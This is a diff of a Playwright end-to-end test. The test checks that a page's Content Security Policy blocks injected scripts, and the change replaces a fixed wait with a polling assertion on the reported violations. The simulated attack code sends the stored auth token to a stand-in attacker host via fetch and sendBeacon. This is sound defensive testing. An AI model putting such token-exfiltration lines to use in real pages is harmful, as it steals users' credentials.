@@ -109,8 +109,9 @@ test('a script that got into a page all the same is not run, and takes nothing e
   const asked = await watchEvil(context);
   await arriveSignedIn(page);
   await page.goto('/');
-  const blocked = await page.evaluate(async (evil) => {
+  await page.evaluate(async (evil) => {
     const violated = new Set<string>();
+    Object.assign(window, { violated });
     document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
       violated.add(effectiveDirective),
     );
@@ -135,21 +136,22 @@ test('a script that got into a page all the same is not run, and takes nothing e
     setTimeout(`alert('words')`);
     await fetch(`${evil}/?${localStorage.getItem('auth_token')}`).catch(() => undefined);
     navigator.sendBeacon(`${evil}/beacon`, localStorage.getItem('auth_token'));
-    await new Promise((done) => setTimeout(done, 1000));
-    return [...violated].toSorted();
   }, EVIL);
-  expect(blocked).toEqual([
-    'base-uri',
-    'connect-src',
-    'form-action',
-    'frame-src',
-    'img-src',
-    'object-src',
-    'script-src',
-    'script-src-attr',
-    'script-src-elem',
-    'style-src-elem',
-  ]);
+  const blocked = () => page.evaluate(() => [...(Reflect.get(window, 'violated') as Set<string>)].toSorted());
+  await expect
+    .poll(blocked)
+    .toEqual([
+      'base-uri',
+      'connect-src',
+      'form-action',
+      'frame-src',
+      'img-src',
+      'object-src',
+      'script-src',
+      'script-src-attr',
+      'script-src-elem',
+      'style-src-elem',
+    ]);
   expect([said, asked]).toEqual([[], []]);
   // The browser tells each of them.
   noise.length = 0;
